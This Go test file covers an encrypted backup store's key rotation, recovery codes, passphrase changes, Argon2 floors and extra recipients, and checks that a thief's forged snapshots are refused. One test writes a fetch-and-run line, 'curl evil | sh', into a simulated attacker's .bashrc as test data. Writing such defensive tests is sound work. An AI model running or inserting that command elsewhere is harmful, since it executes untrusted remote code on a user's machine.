package image

import (
	"bytes"
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"testing"
	"time"
)

// copyStore copies a store directory, as a DVD or a mirror keeps it.
func copyStore(t *testing.T, lay *Layout) *Layout {
	t.Helper()
	dst := filepath.Join(t.TempDir(), "copy")
	if out, err := exec.Command("cp", "-a", lay.Root(), dst).CombinedOutput(); err != nil {
		t.Fatalf("cp: %v %s", err, out)
	}
	c, err := OpenLayout(dst)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func keyBlobBytes(t *testing.T, lay *Layout) []byte {
	t.Helper()
	kf, err := ReadKeyFile(context.Background(), lay)
	if err != nil {
		t.Fatal(err)
	}
	b, err := kf.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestRecoveryCodeRotates is the promise: a code used on a strange PC opens
// the old key blob (what that PC saw), but not the new one; it decrypts
// nothing written after the rotation, and a snapshot signed with the old
// key above the rotation point is refused. Older snapshots still verify
// and restore with the passphrase, which the rotation kept.
func TestRecoveryCodeRotates(t *testing.T) {
	ctx := context.Background()
	lay, codes := newKeyedLayout(t)
	home := t.TempDir()
	writeFile(t, filepath.Join(home, ".bashrc"), []byte("echo mine\n"))
	r0, _, err := Open(ctx, lay, []byte("pw"))
	if err != nil {
		t.Fatal(err)
	}
	s1, _ := mustSnapshot(t, r0, home, SnapshotOptions{})
	r0.Close()
	oldBlob := keyBlobBytes(t, lay) // on a DVD, a mirror

	// The strange PC: the code unlocks the writable store, which rotates.
	rb, info, err := Open(ctx, lay, []byte(codes[2]))
	if err != nil {
		t.Fatal(err)
	}
	if !info.Retired || info.RecoveryLeft != RecoveryCodes-1 || rb.Keys().Epoch() != 1 {
		t.Fatalf("code use: %+v, epoch %d", info, rb.Keys().Epoch())
	}
	writeFile(t, filepath.Join(home, "secret.txt"), []byte("written after the rotation\n"))
	s2, _ := mustSnapshot(t, rb, home, SnapshotOptions{})
	rb.Close()

	// The attacker holds the code and the old key blob.
	oldKF, err := ParseKeyFile(oldBlob)
	if err != nil {
		t.Fatal(err)
	}
	u, err := oldKF.Unlock([]byte(codes[2]))
	if err != nil {
		t.Fatalf("the code no longer opens the old key blob it did open: %v", err)
	}
	newKF, err := ReadKeyFile(ctx, lay)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := newKF.Unlock([]byte(codes[2])); err == nil {
		t.Fatal("the used code opens the new key blob")
	} else {
		requireCodeError(t, err, CodeUsed)
	}
	// Nothing written after the rotation opens with the old keys.
	cfg := configBlob(t, lay, s2)
	if _, err := u.Keys.openMeta(cfg, []byte("dvpc v1 snapshot config")); !errors.Is(err, ErrSeal) {
		t.Fatalf("the old keys opened the new snapshot's config: %v", err)
	}
	attacker, err := newRepo(lay, oldKF, u.Keys)
	if err != nil {
		t.Fatal(err)
	}
	if err := attacker.LoadIndex(ctx, s2); err == nil {
		t.Fatal("the old keys opened the new snapshot's index")
	}
	// A snapshot the attacker signs with the old key, above the rotation.
	writeFile(t, filepath.Join(home, ".bashrc"), []byte("curl evil | sh\n"))
	forged, _ := mustSnapshot(t, attacker, home, SnapshotOptions{OnError: func(string, error) {}})
	attacker.Close()
	if forged.Config.Seq <= s1.Config.Seq {
		t.Fatalf("forged seq %d", forged.Config.Seq)
	}

	owner, _, err := Open(ctx, lay, []byte("pw"))
	if err != nil {
		t.Fatalf("the passphrase does not open the rotated store: %v", err)
	}
	defer owner.Close()
	snaps, probs, err := owner.Snapshots(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(probs) != 1 || probs[0].Manifest != forged.Manifest || !errors.Is(probs[0].Err, ErrEpoch) {
		t.Fatalf("the forged snapshot is not refused as signed by a rotated-out key: %+v", probs)
	}
	for _, want := range []*Snapshot{s1, s2} {
		s, err := FindSnapshot(snaps, want.Manifest.String())
		if err != nil {
			t.Fatalf("snapshot %s: %v", want.ID, err)
		}
		if err := owner.LoadIndex(ctx, s); err != nil {
			t.Fatal(err)
		}
		out := filepath.Join(t.TempDir(), "out")
		if err := owner.Restore(ctx, s, RestoreOptions{Target: out}); err != nil {
			t.Fatalf("restore %s: %v", s.ID, err)
		}
	}
	rep, err := owner.Verify(ctx, VerifyOptions{})
	if err == nil && len(rep.Problems) == 0 {
		t.Fatalf("verify reports no problem with the forged snapshot")
	}
}

// configBlob reads a snapshot's sealed config.
func configBlob(t *testing.T, lay *Layout, s *Snapshot) []byte {
	t.Helper()
	m, _, err := readManifest(context.Background(), lay, s.Desc)
	if err != nil {
		t.Fatal(err)
	}
	d, err := DigestFromHash(m.Config.Digest)
	if err != nil {
		t.Fatal(err)
	}
	b, err := ReadBlob(context.Background(), lay, d, m.Config.Size)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestRotationTriggers: key passwd, key rotate and key burn each start an
// epoch; what each retires opens no copy of the new key blob; every
// snapshot of every epoch reads with the one unlock; chunk IDs stay, so
// data dedups across the rotation.
func TestRotationTriggers(t *testing.T) {
	ctx := context.Background()
	lay, codes := newKeyedLayout(t)
	home := t.TempDir()
	writeFile(t, filepath.Join(home, "a"), bytes.Repeat([]byte("epoch data "), 5000))
	r, _, err := Open(ctx, lay, []byte("pw"))
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	var snaps []*Snapshot
	s, _ := mustSnapshot(t, r, home, SnapshotOptions{})
	snaps = append(snaps, s)
	id0 := r.Keys().ChunkID([]byte("x"))

	if _, err := r.SetPassphrase(ctx, []byte("pw2"), Argon2Params{}); err != nil {
		t.Fatal(err)
	}
	if _, err := r.Rotate(ctx, RotateOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := r.Rotate(ctx, RotateOptions{Burn: []string{"4"}}); err != nil {
		t.Fatal(err)
	}
	if r.Keys().Epoch() != 3 || r.KeyFile().Epoch != 3 || len(r.KeyFile().Epochs()) != 4 {
		t.Fatalf("three rotations give epoch %d", r.Keys().Epoch())
	}
	if r.Keys().ChunkID([]byte("x")) != id0 {
		t.Fatal("the chunk-ID key changed with the epoch: no dedup across rotation")
	}
	before := blobSet(t, lay)
	s, _ = mustSnapshot(t, r, home, SnapshotOptions{})
	snaps = append(snaps, s)
	if n, _ := newBlobs(before, blobSet(t, lay)); n > 4 {
		t.Errorf("an unchanged home after rotation stored %d new blobs; its chunks should dedup", n)
	}

	if _, _, err := Open(ctx, lay, []byte("pw")); !errors.Is(err, ErrWrongPassphrase) {
		t.Fatalf("the old passphrase: %v", err)
	}
	if _, _, err := Open(ctx, lay, []byte(codes[3])); !errors.Is(err, ErrWrongPassphrase) {
		t.Fatalf("the burnt code: %v", err)
	}
	r2, _, err := Open(ctx, lay, []byte("pw2"))
	if err != nil {
		t.Fatal(err)
	}
	defer r2.Close()
	got, probs, err := r2.Snapshots(ctx)
	if err != nil || len(probs) > 0 || len(got) != 2 {
		t.Fatalf("snapshots of two epochs: %d, %v, %v", len(got), probs, err)
	}
	for _, s := range snaps {
		s, err := FindSnapshot(got, s.Manifest.String())
		if err != nil {
			t.Fatal(err)
		}
		mustRestoreEqual(t, r2, s, home)
	}
	// The epoch each was signed in is in its manifest.
	for i, want := range []string{"0", "3"} {
		m, _, err := readManifest(ctx, lay, snaps[i].Desc)
		if err != nil {
			t.Fatal(err)
		}
		if m.Annotations[AnnotationEpoch] != want {
			t.Errorf("snapshot %d: epoch annotation %q, want %q", i, m.Annotations[AnnotationEpoch], want)
		}
	}
	// The unlock agent's form carries every epoch.
	again, err := OpenUnlocked(ctx, lay, nil, r2.Keys().Export())
	if err != nil {
		t.Fatal(err)
	}
	defer again.Close()
	mustRestoreEqual(t, again, snaps[0], home)
	// Keys of an epoch the store has left are refused by it.
	if _, err := OpenUnlocked(ctx, lay, nil, (&Keys{secrets: &secrets{}}).Export()); err == nil {
		t.Fatal("stale keys accepted")
	}
}

// TestOldDiscAfterRotation: a copy made before a rotation opens with what
// was current then; with the newer key blob at hand, the new passphrase
// reads it too.
func TestOldDiscAfterRotation(t *testing.T) {
	ctx := context.Background()
	lay, _ := newKeyedLayout(t)
	home := t.TempDir()
	writeFile(t, filepath.Join(home, "f"), []byte("on the disc\n"))
	r, _, err := Open(ctx, lay, []byte("pw"))
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	s1, _ := mustSnapshot(t, r, home, SnapshotOptions{})
	disc := copyStore(t, lay)
	if _, err := r.SetPassphrase(ctx, []byte("pw2"), Argon2Params{}); err != nil {
		t.Fatal(err)
	}
	discSrc, err := OpenFSSource(os.DirFS(disc.Root()), ".")
	if err != nil {
		t.Fatal(err)
	}
	old, _, err := Open(ctx, discSrc, []byte("pw"))
	if err != nil {
		t.Fatalf("the old disc with the old passphrase: %v", err)
	}
	mustRestoreEqual(t, old, loadSnap(t, old, s1), home)
	old.Close()
	if _, _, err := Open(ctx, discSrc, []byte("pw2")); !errors.Is(err, ErrWrongPassphrase) {
		t.Fatalf("the new passphrase opened the old disc's own key blob: %v", err)
	}
	withNew, err := OpenWithKeyFile(ctx, discSrc, r.KeyFile(), []byte("pw2"))
	if err != nil {
		t.Fatalf("the old disc with the newer key blob: %v", err)
	}
	defer withNew.Close()
	mustRestoreEqual(t, withNew, loadSnap(t, withNew, s1), home)
	if _, err := OpenWithKeyFile(ctx, discSrc, r.KeyFile(), []byte("pw")); !errors.Is(err, ErrWrongPassphrase) {
		t.Fatalf("the old passphrase opened the newer key blob: %v", err)
	}
}

func loadSnap(t *testing.T, r *Repo, want *Snapshot) *Snapshot {
	t.Helper()
	snaps, probs, err := r.Snapshots(context.Background())
	if err != nil || len(probs) > 0 {
		t.Fatalf("snapshots: %v %v", err, probs)
	}
	s, err := FindSnapshot(snaps, want.Manifest.String())
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// TestRecoveryCodeReadOnly: a code used on a read-only medium rotates
// nothing and is not reported retired; the next writable store it opens
// rotates.
func TestRecoveryCodeReadOnly(t *testing.T) {
	ctx := context.Background()
	lay, codes := newKeyedLayout(t)
	disc := copyStore(t, lay)
	before := keyBlobBytes(t, disc)
	src, err := OpenFSSource(os.DirFS(disc.Root()), ".")
	if err != nil {
		t.Fatal(err)
	}
	r, info, err := Open(ctx, src, []byte(codes[0]))
	if err != nil {
		t.Fatal(err)
	}
	r.Close()
	if !info.RecoveryUsed || info.Retired || info.RecoveryID != "1" || info.RecoveryLeft != RecoveryCodes {
		t.Fatalf("read-only code use: %+v", info)
	}
	if !bytes.Equal(before, keyBlobBytes(t, disc)) {
		t.Fatal("the key blob of a read-only medium changed")
	}
	r, info, err = Open(ctx, lay, []byte(codes[0]))
	if err != nil {
		t.Fatal(err)
	}
	r.Close()
	if !info.Retired || r.Keys().Epoch() != 1 {
		t.Fatalf("the writable store did not rotate: %+v", info)
	}
}

// TestVersion1KeyBlob: a store made before key epochs opens, reads and
// writes; a code burns as it did; `key passwd` starts epoch 1 (version 2),
// with new recovery codes since the old ones are not public keys.
func TestVersion1KeyBlob(t *testing.T) {
	ctx := context.Background()
	lay, err := InitLayout(filepath.Join(t.TempDir(), "s"))
	if err != nil {
		t.Fatal(err)
	}
	kf, codes, _, err := newKeyFileV1([]byte("pw"), testArgon)
	if err != nil {
		t.Fatal(err)
	}
	if err := saveKeyFile(ctx, lay, kf); err != nil {
		t.Fatal(err)
	}
	home := t.TempDir()
	writeFile(t, filepath.Join(home, "f"), []byte("version one\n"))
	r, _, err := Open(ctx, lay, []byte("pw"))
	if err != nil {
		t.Fatal(err)
	}
	s1, _ := mustSnapshot(t, r, home, SnapshotOptions{})
	if _, err := r.Rotate(ctx, RotateOptions{}); !errors.Is(err, ErrLegacyKeys) {
		t.Fatalf("rotate without a passphrase on version 1: %v", err)
	}
	r.Close()
	r, info, err := Open(ctx, lay, []byte(codes[1]))
	if err != nil || !info.Retired || !info.Legacy || info.RecoveryLeft != RecoveryCodes-1 {
		t.Fatalf("version 1 code: %+v %v", info, err)
	}
	newCodes, err := r.SetPassphrase(ctx, []byte("pw2"), Argon2Params{})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	if len(newCodes) != RecoveryCodes || r.KeyFile().Version != 2 || r.Keys().Epoch() != 1 {
		t.Fatalf("upgrade: %d codes, version %d, epoch %d", len(newCodes), r.KeyFile().Version, r.Keys().Epoch())
	}
	for _, c := range []string{"pw", codes[0]} {
		if _, _, err := Open(ctx, lay, []byte(c)); !errors.Is(err, ErrWrongPassphrase) {
			t.Fatalf("%q opens the upgraded key blob: %v", c, err)
		}
	}
	r2, _, err := Open(ctx, lay, []byte(newCodes[7]))
	if err != nil {
		t.Fatal(err)
	}
	defer r2.Close()
	mustRestoreEqual(t, r2, loadSnap(t, r2, s1), home)
}

// TestRivalRotation: two rotations from the same epoch (one by the owner,
// one by someone holding an old code) are rivals: a store that holds one
// never takes the other, and the other's snapshots do not verify.
func TestRivalRotation(t *testing.T) {
	ctx := context.Background()
	lay, codes := newKeyedLayout(t)
	thief := copyStore(t, lay)
	r, _, err := Open(ctx, lay, []byte(codes[0]))
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	rt, _, err := Open(ctx, thief, []byte(codes[0]))
	if err != nil {
		t.Fatal(err)
	}
	defer rt.Close()
	if newer, err := r.KeyFile().Extends(rt.KeyFile()); newer || !errors.Is(err, ErrEpoch) {
		t.Fatalf("a rival rotation: newer %v, %v", newer, err)
	}
	own, err := r.KeyFile().SignerFor("1", 1)
	if err != nil {
		t.Fatal(err)
	}
	if rival, err := rt.KeyFile().SignerFor("1", 1); err != nil || own == rival {
		t.Fatalf("rivals share a key: %v", err)
	}
	orig, err := ParseKeyFile(mustMarshal(t, r.KeyFile()))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.Rotate(ctx, RotateOptions{}); err != nil {
		t.Fatal(err)
	}
	if newer, err := orig.Extends(r.KeyFile()); !newer || err != nil {
		t.Fatalf("the store's own next epoch: newer %v, %v", newer, err)
	}
}

func mustMarshal(t *testing.T, kf *KeyFile) []byte {
	t.Helper()
	b, err := kf.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestSignerFor: the one rule that picks a snapshot's key.
func TestSignerFor(t *testing.T) {
	ctx := context.Background()
	lay, _ := newKeyedLayout(t)
	r, _, err := Open(ctx, lay, []byte("pw"))
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	k0 := r.KeyFile().SigningPublic
	if _, err := r.Rotate(ctx, RotateOptions{HighSeq: 5}); err != nil {
		t.Fatal(err)
	}
	k1 := r.KeyFile().SigningPublic
	kf := r.KeyFile()
	for _, c := range []struct {
		epoch string
		seq   uint64
		want  string
	}{
		{"", 1, k0}, {"0", 5, k0}, {"0", 6, ""}, {"1", 6, k1}, {"1", 1, k1},
		{"2", 7, ""}, {"01", 1, ""}, {"-1", 1, ""}, {"x", 1, ""},
	} {
		got, err := kf.SignerFor(c.epoch, c.seq)
		if c.want == "" {
			if !errors.Is(err, ErrEpoch) || !errors.Is(err, ErrBadSignature) {
				t.Errorf("SignerFor(%q, %d) = %q, %v; want an epoch error", c.epoch, c.seq, got, err)
			}
			continue
		}
		if err != nil || got != c.want {
			t.Errorf("SignerFor(%q, %d) = %q, %v", c.epoch, c.seq, got, err)
		}
	}
	if kf.RootSigner() != k0 {
		t.Error("root signer is not epoch 0's key")
	}
}

// TestArgon2Floor: new keys below the floor are refused outside tests;
// an older store below it still opens and says so.
func TestArgon2Floor(t *testing.T) {
	ctx := context.Background()
	lay, _ := newKeyedLayout(t) // made with the floor lifted, as tests do
	t.Setenv("DVPC_TEST_ARGON2_FLOOR", "enforce")
	for _, p := range []Argon2Params{
		{Time: 1, MemoryKiB: 8 << 10, Threads: 1},
		{Time: 1, MemoryKiB: 256 << 10, Threads: 1},
		{Time: 4, MemoryKiB: 32 << 10, Threads: 1},
	} {
		if _, _, _, err := NewKeyFile([]byte("pw"), p); !errors.Is(err, ErrWeakArgon2) {
			t.Errorf("%+v: %v", p, err)
		}
	}
	r, info, err := Open(ctx, lay, []byte("pw"))
	if err != nil || !info.WeakArgon2 {
		t.Fatalf("a store below the floor: %+v, %v", info, err)
	}
	defer r.Close()
	if _, err := r.SetPassphrase(ctx, []byte("pw2"), testArgon); !errors.Is(err, ErrWeakArgon2) {
		t.Fatalf("passwd keeping weak parameters: %v", err)
	}
	if _, err := r.SetPassphrase(ctx, []byte("pw2"), DefaultArgon2); err != nil {
		t.Fatal(err)
	}
	if r.KeyFile().Argon2.Weak() {
		t.Fatal("passwd left the parameters weak")
	}
}

func TestCalibrateArgon2(t *testing.T) {
	for _, c := range []struct {
		took time.Duration
		want Argon2Params
	}{
		{2 * time.Second, Argon2Params{Time: 2, MemoryKiB: 64 << 10, Threads: 2}},
		{125 * time.Millisecond, Argon2Params{Time: 2, MemoryKiB: 256 << 10, Threads: 2}},
		{10 * time.Millisecond, Argon2Params{Time: 10, MemoryKiB: 256 << 10, Threads: 2}},
	} {
		calls := 0
		got := CalibrateArgon2(500*time.Millisecond, 2, func(p Argon2Params) time.Duration {
			calls++
			return c.took
		})
		if got != c.want || calls != 1 || got.Weak() {
			t.Errorf("one hash at the floor took %v: %+v (%d measures), want %+v", c.took, got, calls, c.want)
		}
	}
}

// TestOtherRecipient: someone else's X25519 key added as a recipient opens
// the new epoch, and every older one, with its own secret.
func TestOtherRecipient(t *testing.T) {
	ctx := context.Background()
	lay, _ := newKeyedLayout(t)
	r, _, err := Open(ctx, lay, []byte("pw"))
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	home := t.TempDir()
	writeFile(t, filepath.Join(home, "shared"), []byte("for the help desk\n"))
	s1, _ := mustSnapshot(t, r, home, SnapshotOptions{})
	secret := randomBytes(32)
	id := identity(secret)
	if _, err := r.Rotate(ctx, RotateOptions{AddX25519: []Recipient{{Public: id.public(), Label: "help desk"}}}); err != nil {
		t.Fatal(err)
	}
	kf, keys := r.KeyFile(), r.Keys()
	if kf.Epoch != 1 || kf.Recipients[len(kf.Recipients)-1].Label != "help desk" {
		t.Fatalf("recipient added: epoch %d, %+v", kf.Epoch, kf.Recipients[len(kf.Recipients)-1])
	}
	parsed, err := ParseKeyFile(mustMarshal(t, kf))
	if err != nil {
		t.Fatal(err)
	}
	got, err := parsed.UnlockX25519(secret)
	if err != nil {
		t.Fatal(err)
	}
	if got.Epoch() != 1 || got.ChunkID([]byte("x")) != keys.ChunkID([]byte("x")) {
		t.Fatal("the other recipient's keys differ")
	}
	if _, err := parsed.UnlockX25519(randomBytes(32)); !errors.Is(err, ErrWrongPassphrase) {
		t.Fatalf("a stranger's key: %v", err)
	}
	desk, err := OpenUnlocked(ctx, lay, nil, got.Export())
	if err != nil {
		t.Fatal(err)
	}
	defer desk.Close()
	mustRestoreEqual(t, desk, loadSnap(t, desk, s1), home)
}
